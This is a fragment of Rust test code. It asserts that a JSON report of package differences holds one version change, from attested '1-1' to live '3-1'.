    let d = &v["differences"]["packages"];
    assert_eq!(d.as_array().unwrap().len(), 1, "{v:#}");
    assert_eq!(
        (&d[0]["change"], &d[0]["attested"], &d[0]["live"]),
        (&json!("version"), &json!("1-1"), &json!("3-1")),
        "{v:#}"
    );
}
